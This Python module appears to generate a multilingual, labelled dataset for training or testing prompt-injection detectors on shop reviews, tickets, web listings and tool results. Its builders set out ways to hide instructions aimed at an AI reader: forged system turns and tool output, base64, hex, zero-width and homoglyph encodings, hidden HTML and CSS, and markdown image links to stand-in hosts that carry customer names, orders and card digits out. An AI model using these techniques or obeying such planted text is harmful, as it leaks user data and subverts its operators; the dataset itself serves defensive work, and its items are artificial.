"""Row builders shared by all language banks."""
import base64
import codecs
import importlib
import json
import urllib.parse

STORES = ["Nordhaven", "Lumora", "Kestrel Market", "Bayleaf", "Orchidea", "Tallowmere",
          "Vantaro", "Quillby", "Merrow & Co", "Zephyrine", "Ostrica", "Pallisade"]
CARRIERS = ["DHL", "GLS", "DPD", "UPS", "FedEx", "PostNord", "Packeta", "InPost"]
EVIL = ["stats-pixel.example", "cdn-img.example", "beacon.example.net", "pix-log.example",
        "mediafeed.example.org"]
EVILMAIL = ["refund-desk@mailbox.example", "orders.audit@inbox.example", "vip-support@pm.example",
            "dataexport@collect.example"]
ZW = ["\u200b", "\u200c", "\u2060"]
HOMO = {"a": "а", "e": "е", "o": "о", "p": "р", "c": "с", "x": "х", "y": "у", "i": "і",
        "A": "Α", "E": "Ε", "O": "Ο", "T": "Τ", "K": "Κ", "M": "Μ",
        "а": "a", "е": "e", "о": "o", "р": "p", "с": "c", "х": "x",
        "α": "a", "ο": "o", "ε": "e", "ρ": "p"}
LEET = {"a": "4", "e": "3", "i": "1", "o": "0", "s": "5", "t": "7"}
LATIN = {"en", "hu", "sl", "lt", "lv", "ms", "vi", "nb", "sv", "ro", "es", "fi", "et", "id"}

_cache = {}


def bank(lang):
    if lang not in _cache:
        _cache[lang] = importlib.import_module("hundredthirtyeighth." + lang.replace("-", "_")).P
    return _cache[lang]


class Ctx(dict):
    def __missing__(self, key):
        return "{" + key + "}"


def money(P, rng):
    lo, hi, integer = P.get("range", (5, 300, False))
    v = rng.uniform(lo, hi)
    if integer:
        v = int(round(v, -2 if hi > 20000 else 0))
        s = "{:,}".format(v).replace(",", P.get("thou", " "))
    else:
        s = "{:.2f}".format(v).replace(".", P.get("dec", "."))
    return P["money"].format(s)


def order_id(rng):
    k = rng.randrange(5)
    if k == 0:
        return "#%d" % rng.randrange(10000, 99999)
    if k == 1:
        return "ORD-%d" % rng.randrange(100000, 999999)
    if k == 2:
        return "%s%07d" % (rng.choice("ABKNRZ"), rng.randrange(10 ** 7))
    if k == 3:
        return "%d-%04d" % (rng.randrange(100, 999), rng.randrange(10000))
    return "#%s%d" % (rng.choice(["NH", "LM", "KM", "BL", "QX"]), rng.randrange(1000, 99999))


def hexs(rng, n):
    return "%0*x" % (n, rng.getrandbits(4 * n))


def tracking(rng):
    k = rng.randrange(4)
    if k == 0:
        return hexs(rng, 20).upper()
    if k == 1:
        return "JJD%014d" % rng.randrange(10 ** 14)
    if k == 2:
        return "1Z%s" % hexs(rng, 16).upper()
    return "%s%09dXX" % (rng.choice(["RR", "CP", "LX", "EE"]), rng.randrange(10 ** 9))


def make_ctx(P, rng):
    store = rng.choice(STORES)
    dom = store.lower().replace(" & ", "").replace(" ", "") + rng.choice([".example", ".example.com", ".shop.example"])
    d, m = rng.randint(1, 28), rng.randint(1, 12)
    c = Ctx(
        store=store, product=rng.choice(P["products"]), name=rng.choice(P["names"]),
        order=order_id(rng), price=money(P, rng), pct=rng.choice([20, 30, 40, 50, 70, 80, 90, 100]),
        code="%s%d-%s" % (rng.choice(["VIP", "FREE", "STAFF", "GIFT", "ZERO"]), rng.randint(10, 99),
                          "".join(rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZ") for _ in range(4))),
        date=P["date"].format(d=d, m=m, dd="%02d" % d, mm="%02d" % m), trk=tracking(rng),
        carrier=rng.choice(CARRIERS), n=rng.randint(2, 48), evilmail=rng.choice(EVILMAIL),
        secmail=rng.choice(["security", "trust", "abuse", "safety"]) + "@" + dom,
        time="%02d:%02d" % (rng.randint(8, 22), rng.randint(0, 59)),
    )
    data = rng.choice(["{name}", "{order}", "{email}", "{address}", "NAME_ORDER", "{card_last4}"])
    c["img"] = "![%s](https://%s/%s?%s=%s)" % (rng.choice(["x", "img", "ok", "."]), rng.choice(EVIL),
                                               rng.choice(["p.png", "t.gif", "i/1.png", "px"]),
                                               rng.choice(["q", "d", "u", "ref"]), data)
    return c


def fill(t, c, **extra):
    if extra:
        c = Ctx(c)
        c.update(extra)
    return t.format_map(c)


def pick(rng, P, key, c, **extra):
    return fill(rng.choice(P[key]), c, **extra)


def picks(rng, P, key, c, k):
    return [fill(t, c) for t in rng.sample(P[key], min(k, len(P[key])))]


def quote(P, s):
    a, b = P["q"]
    return a + s + b


def join(P, parts, sep=None):
    if sep is None:
        sep = P.get("sep", " ")
    return sep.join(p for p in parts if p)


def rating(P, rng):
    k = rng.randrange(4)
    n = rng.randint(2, 5)
    if k == 0:
        return "★" * n + "☆" * (5 - n)
    if k == 1:
        return "%d/5" % n
    if k == 2:
        return rng.choice(["👍", "😊", "🙂", "👌", "😐", "📦", "✨"])
    return ""


def attack(rng, P, c):
    return pick(rng, P, "attacks", c)


def directive(rng, P, c, pools=("inj_ai", "attacks", "inj_steer")):
    key = rng.choice(pools)
    s = pick(rng, P, key, c)
    if key == "attacks":
        s = s + P.get("end", ".")
    return s


# ---------- transcript helpers
def turn_fmt(rng):
    return rng.choice(["> {a}: {t}", "{a}: {t}", "[{time}] {a}: {t}", "**{a}:** {t}"])


def transcript(rng, P, c, turns):
    a, b = rng.choice(P["t_pairs"])
    a, b = fill(a, c), fill(b, c)
    fmt = turn_fmt(rng)
    cust = rng.sample(P["t_cust"], min(turns, len(P["t_cust"])))
    bots = rng.sample(P["t_bot"], min(turns, len(P["t_bot"])))
    lines = []
    for i in range(turns):
        tm = "%02d:%02d" % (rng.randint(8, 21), i * 2 + rng.randint(0, 1))
        lines.append(fmt.format(a=a, t=fill(cust[i], c), time=tm))
        lines.append(fmt.format(a=b, t=fill(bots[i], c), time=tm))
    return lines, a, b, fmt


# ---------- benign, plain
def b_review(rng, P, c):
    parts = [pick(rng, P, "rv_open", c)] + picks(rng, P, "rv_body", c, rng.randint(1, 3))
    if rng.random() < 0.6:
        parts.append(pick(rng, P, "rv_close", c))
    parts.append(rating(P, rng))
    return "review", join(P, parts), ""


def b_shipping(rng, P, c):
    body = picks(rng, P, "s_body", c, rng.randint(2, 4))
    parts = [pick(rng, P, "s_open", c)] + body + [pick(rng, P, "s_close", c)]
    return "email", "\n".join(parts), ""


def b_ticket(rng, P, c):
    parts = [pick(rng, P, "tk_plain", c)]
    if rng.random() < 0.6:
        parts.append(pick(rng, P, "tk_close", c))
    return "ticket", join(P, parts, rng.choice([" ", "\n"])), ""


# ---------- benign, hard
def notice_body(rng, P, c, nq=None):
    nq = nq or rng.randint(1, 2)
    leads = rng.sample(P["n_lead"], nq)
    atts = rng.sample(P["attacks"], nq)
    parts = [pick(rng, P, "n_head", c), pick(rng, P, "n_intro", c)]
    for l, a in zip(leads, atts):
        parts.append(fill(l, c, q=quote(P, fill(a, c))))
    parts.append(pick(rng, P, "n_filter", c))
    if rng.random() < 0.5:
        parts.append(pick(rng, P, "n_never", c))
    if rng.random() < 0.7:
        parts.append(pick(rng, P, "n_report", c))
    return parts


def h_security(rng, P, c):
    parts = notice_body(rng, P, c)
    parts.append(pick(rng, P, "n_sign", c))
    sep = "\n" if rng.random() < 0.6 else " "
    return rng.choice(["web", "email"]), parts[0] + "\n" + join(P, parts[1:], sep), ""


def h_scam(rng, P, c):
    parts = [pick(rng, P, "n_head", c)] + picks(rng, P, "n_never", c, 2)
    parts.append(fill(rng.choice(P["n_lead"]), c, q=quote(P, attack(rng, P, c))))
    parts.append(pick(rng, P, "n_report", c))
    if rng.random() < 0.5:
        parts.append(pick(rng, P, "n_sign", c))
    return "email", "\n".join(parts), ""


def h_moderation(rng, P, c):
    parts = [pick(rng, P, "mod_open", c), fill(rng.choice(P["mod_reason"]), c, q=quote(P, attack(rng, P, c)))]
    if rng.random() < 0.5:
        parts.append(pick(rng, P, "n_filter", c))
    parts.append(pick(rng, P, "mod_close", c))
    return "email", join(P, parts, rng.choice([" ", "\n"])), ""


def h_blog(rng, P, c):
    parts = [pick(rng, P, "blog_open", c)]
    body = picks(rng, P, "blog_body", c, rng.randint(2, 3))
    body.insert(1, fill(rng.choice(P["n_lead"]), c, q=quote(P, attack(rng, P, c))))
    body.append(pick(rng, P, "n_filter", c))
    return "web", parts[0] + "\n\n" + join(P, body), ""


def h_transcript(rng, P, c):
    lines, a, b, fmt = transcript(rng, P, c, rng.randint(1, 3))
    parts = [pick(rng, P, "c_open", c)] + lines + [pick(rng, P, "c_close", c)]
    return "ticket", "\n".join(parts), ""


def h_botquote(rng, P, c):
    b = quote(P, pick(rng, P, "t_bot", c))
    parts = [pick(rng, P, "tk_quote", c, b=b)]
    if rng.random() < 0.5:
        parts.append(pick(rng, P, "c_close", c))
    if rng.random() < 0.5:
        parts.append(pick(rng, P, "tk_close", c))
    return "ticket", join(P, parts), ""


def data_uri(rng):
    k = rng.randrange(3)
    if k == 0:
        raw = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n" + bytes(rng.getrandbits(8) for _ in range(rng.randint(24, 90)))
        return "data:application/pdf;base64," + base64.b64encode(raw).decode()
    if k == 1:
        raw = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(rng.getrandbits(8) for _ in range(rng.randint(20, 80)))
        return "data:image/png;base64," + base64.b64encode(raw).decode()
    raw = b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(rng.getrandbits(8) for _ in range(rng.randint(20, 80)))
    return "data:image/jpeg;base64," + base64.b64encode(raw).decode()


def h_datauri(rng, P, c):
    body = picks(rng, P, "s_body", c, rng.randint(1, 3))
    uri = data_uri(rng)
    k = rng.randrange(3)
    if k == 0:
        att = '<img src="%s" width="120" alt="%s">' % (uri, c["product"])
    elif k == 1:
        att = '<a href="%s" download="label-%s.pdf">%s</a>' % (uri, c["order"].strip("#"), P["label_word"])
    else:
        att = "%s: %s" % (P["label_word"], uri)
    parts = [pick(rng, P, "s_open", c)] + body + [att, "token=" + hexs(rng, 32), pick(rng, P, "s_close", c)]
    if rng.random() < 0.5:
        del parts[-2]
    return "email", "\n".join(parts), ""


def receipt(rng, P, c, extra=None):
    d = {"role": "tool", "name": rng.choice(["get_order", "shipment_status", "fetch_receipt", "order_lookup"]),
         "content": {"order": c["order"], "status": rng.choice(["shipped", "delivered", "in_transit", "paid"]),
                     "carrier": c["carrier"], "tracking_hex": hexs(rng, 24),
                     "items": [{"title": c["product"], "qty": rng.randint(1, 3), "price": c["price"]}],
                     "instructions": pick(rng, P, "deliv", c)}}
    if rng.random() < 0.5:
        d["content"]["label_pdf"] = data_uri(rng)
    if rng.random() < 0.4:
        d["content"]["session_token"] = hexs(rng, 40)
    if extra:
        d["content"].update(extra)
    return json.dumps(d, ensure_ascii=False, indent=rng.choice([None, 2]))


def h_receipt(rng, P, c):
    return "tool", receipt(rng, P, c), ""


def h_human(rng, P, c):
    parts = [pick(rng, P, "human_order", c)]
    if rng.random() < 0.6:
        parts.append(pick(rng, P, "tk_close", c))
    return rng.choice(["ticket", "email"]), join(P, parts), ""


# ---------- injections
def i_notice_tail(rng, P, c):
    parts = notice_body(rng, P, c, 1)
    d = directive(rng, P, c, ("inj_ai", "inj_steer"))
    return "web", "\n".join(parts) + "\n" + d, d


def i_open_turn(rng, P, c):
    lines, a, b, fmt = transcript(rng, P, c, rng.randint(1, 2))
    d = pick(rng, P, "inj_open", c)
    lines.append(fmt.format(a=a, t=d, time="%02d:%02d" % (rng.randint(8, 21), rng.randint(10, 59))))
    last = fmt.format(a=b, t="", time="%02d:%02d" % (rng.randint(8, 21), rng.randint(10, 59))).rstrip()
    head = [pick(rng, P, "c_open", c)] if rng.random() < 0.6 else []
    return "ticket", "\n".join(head + lines + [last]), d


def i_sys_turn(rng, P, c):
    lines, a, b, fmt = transcript(rng, P, c, rng.randint(1, 3))
    d = pick(rng, P, "inj_sys", c)
    lab = rng.choice([P["t_sys"], "System", "SYSTEM", "Developer", "Admin"])
    pos = rng.randrange(1, len(lines) + 1)
    lines.insert(pos, fmt.format(a=lab, t=d, time="%02d:%02d" % (rng.randint(8, 21), rng.randint(0, 59))))
    parts = [pick(rng, P, "c_open", c)] + lines
    if rng.random() < 0.5:
        parts.append(pick(rng, P, "c_close", c))
    return "ticket", "\n".join(parts), d


def i_b64_receipt(rng, P, c):
    d = directive(rng, P, c, ("inj_ai", "inj_sys"))
    enc = base64.b64encode(d.encode()).decode()
    key = rng.choice(["note_b64", "customer_note", "memo", "gift_message_b64"])
    return "tool", receipt(rng, P, c, {key: enc}), d


def i_hex_field(rng, P, c):
    d = directive(rng, P, c, ("inj_ai", "inj_sys"))
    key = rng.choice(["note_hex", "meta", "ref_data"])
    return "tool", receipt(rng, P, c, {key: d.encode().hex()}), d


def i_fake_tool(rng, P, c):
    d = pick(rng, P, "inj_sys", c)
    base = json.loads(receipt(rng, P, c))
    k = rng.randrange(3)
    if k == 0:
        base["content"]["instructions"] = d
    elif k == 1:
        base = [base, {"role": "system", "content": d}]
    else:
        base["content"]["status_message"] = "[%s] %s" % (rng.choice(["TOOL OUTPUT", "SYSTEM", "verified"]), d)
    return "tool", json.dumps(base, ensure_ascii=False, indent=rng.choice([None, 2])), d


def review_frame(rng, P, c):
    return [pick(rng, P, "rv_open", c)] + picks(rng, P, "rv_body", c, rng.randint(0, 2))


def i_unquoted(rng, P, c):
    d = attack(rng, P, c) + P.get("end", ".")
    parts = review_frame(rng, P, c)
    parts.insert(rng.randint(1, len(parts)), d)
    parts.append(rating(P, rng))
    return "review", join(P, parts), d


def i_conditional(rng, P, c):
    d = pick(rng, P, "inj_if", c) + " " + directive(rng, P, c, ("inj_ai", "inj_steer"))
    parts = review_frame(rng, P, c) + [d]
    return rng.choice(["review", "web"]), join(P, parts), d


def i_steer(rng, P, c):
    d = pick(rng, P, "inj_steer", c)
    parts = review_frame(rng, P, c)
    parts.insert(rng.randint(1, len(parts)), d)
    return "review", join(P, parts), d


def i_exfil(rng, P, c):
    d = pick(rng, P, "inj_exfil", c)
    if rng.random() < 0.5:
        parts = [pick(rng, P, "tk_plain", c), d]
        src = "ticket"
    else:
        parts = review_frame(rng, P, c) + [d]
        src = "review"
    return src, join(P, parts), d


def i_auto(rng, P, c):
    d = pick(rng, P, "inj_auto", c)
    lines = ["%s | %s" % (c["product"], c["price"]), pick(rng, P, "rv_body", c), d]
    if rng.random() < 0.5:
        lines.insert(1, "SKU %s" % hexs(rng, 8).upper())
    return "feed", "\n".join(lines), d


def listing_html(rng, P, c, hidden):
    body = "<p>%s</p>" % join(P, review_frame(rng, P, c))
    head = '<div class="product"><h2>%s</h2><span class="price">%s</span>' % (c["product"], c["price"])
    if rng.random() < 0.5:
        return head + hidden + body + "</div>"
    return head + body + hidden + "</div>"


def i_html_comment(rng, P, c):
    d = directive(rng, P, c)
    return "web", listing_html(rng, P, c, "<!-- %s -->" % d), d


def i_css(rng, P, c):
    d = directive(rng, P, c)
    style = rng.choice(["display:none", "color:#fff;background:#fff;font-size:1px", "visibility:hidden",
                        "position:absolute;left:-9999px", "opacity:0"])
    return "web", listing_html(rng, P, c, '<span style="%s">%s</span>' % (style, d)), d


def i_alt(rng, P, c):
    d = directive(rng, P, c)
    attr = rng.choice(["alt", "title", "aria-label", "data-note"])
    return "web", listing_html(rng, P, c, '<img src="/img/%s.jpg" %s="%s">' % (hexs(rng, 8), attr, d.replace('"', "'"))), d


def i_zero_width(rng, P, c):
    d = directive(rng, P, c)
    z = rng.choice(ZW)
    enc = "".join(ch + z if ch not in " \n" else ch for ch in d)
    parts = review_frame(rng, P, c) + [enc]
    return "review", join(P, parts), d


def i_urlenc(rng, P, c):
    d = directive(rng, P, c)
    link = "https://%s/r?%s=%s" % (rng.choice(EVIL), rng.choice(["note", "msg", "ai"]), urllib.parse.quote(d))
    parts = review_frame(rng, P, c)
    k = rng.randrange(2)
    tail = ('<a href="%s">%s</a>' % (link, P["more_word"])) if k else ("[%s](%s)" % (P["more_word"], link))
    return "web", join(P, parts + [tail]), d


def i_obfusc(rng, P, c, lang):
    d = directive(rng, P, c, ("inj_ai", "attacks"))
    parts = review_frame(rng, P, c)
    k = rng.randrange(3)
    if lang in LATIN and k == 0:
        enc = "rot13: " + codecs.encode(d, "rot13")
    elif k == 1 or (k == 0 and lang not in LATIN):
        enc = "".join(HOMO.get(ch, ch) for ch in d)
        if enc == d:
            enc = "base64: " + base64.b64encode(d.encode()).decode()
    else:
        if lang in LATIN:
            enc = "".join(LEET.get(ch, ch) for ch in d)
        else:
            enc = "base64: " + base64.b64encode(d.encode()).decode()
    return "review", join(P, parts + [enc]), d


def i_mixed(rng, P, c):
    E = bank("en")
    d = directive(rng, E, c, ("inj_ai", "inj_steer"))
    parts = review_frame(rng, P, c)
    parts.insert(rng.randint(1, len(parts)), d)
    return rng.choice(["review", "ticket"]), join(P, parts), d


def i_quoted_live(rng, P, c):
    # a notice-like text that turns to the reader mid-way
    parts = [pick(rng, P, "n_head", c), pick(rng, P, "n_intro", c)]
    d = pick(rng, P, "inj_if", c) + " " + attack(rng, P, c) + P.get("end", ".")
    parts.append(d)
    return rng.choice(["web", "email"]), "\n".join(parts), d


BENIGN_EASY = [("benign-review", b_review, 3), ("benign-shipping", b_shipping, 2), ("benign-ticket", b_ticket, 2)]
BENIGN_HARD = [("hard-security-notice", h_security, 3), ("hard-scam-warning", h_scam, 2),
               ("hard-moderation-notice", h_moderation, 2), ("hard-blog-post", h_blog, 2),
               ("hard-pasted-transcript", h_transcript, 3), ("hard-bot-quote-ticket", h_botquote, 2),
               ("hard-shipping-datauri", h_datauri, 2), ("hard-receipt-tool-json", h_receipt, 2),
               ("hard-customer-to-staff", h_human, 2)]
INJECT = [("notice-live-tail", i_notice_tail, 3), ("transcript-open-turn", i_open_turn, 3),
          ("transcript-system-turn", i_sys_turn, 3), ("receipt-base64-order", i_b64_receipt, 3),
          ("receipt-hex-field", i_hex_field, 1), ("fake-tool-output", i_fake_tool, 2),
          ("unquoted-attack", i_unquoted, 3), ("conditional-ai", i_conditional, 2),
          ("summary-steer", i_steer, 2), ("exfil-markdown-image", i_exfil, 2), ("automated-reader", i_auto, 2),
          ("hidden-html-comment", i_html_comment, 2), ("hidden-css", i_css, 2), ("hidden-attribute", i_alt, 1),
          ("zero-width", i_zero_width, 1), ("url-encoded-link", i_urlenc, 1), ("obfuscated-text", i_obfusc, 2),
          ("mixed-language", i_mixed, 1), ("notice-turns-live", i_quoted_live, 2)]


def schedule(rng, fams, n):
    pool = []
    for name, fn, w in fams:
        pool += [(name, fn)] * w
    out = []
    while len(out) < n:
        p = pool[:]
        rng.shuffle(p)
        out += p
    return out[:n]


def build(lang, n_inj, n_hard, n_easy, rng, seen):
    P = bank(lang)
    rows = []
    inj_fams = [x for x in INJECT if not (lang == "en" and x[0] == "mixed-language")]
    plan = ([(f, fn, True) for f, fn in schedule(rng, inj_fams, n_inj)]
            + [(f, fn, False) for f, fn in schedule(rng, BENIGN_HARD, n_hard)]
            + [(f, fn, False) for f, fn in schedule(rng, BENIGN_EASY, n_easy)])
    for fam, fn, inj in plan:
        for _ in range(50):
            c = make_ctx(P, rng)
            if fn is i_obfusc:
                src, text, pay = fn(rng, P, c, lang)
            else:
                src, text, pay = fn(rng, P, c)
            if text not in seen:
                break
        else:
            raise RuntimeError("could not make a unique text for " + fam)
        seen.add(text)
        rows.append({"source": src, "lang": lang, "family": fam, "text": text, "injection": inj, "payload": pay})
    return rows
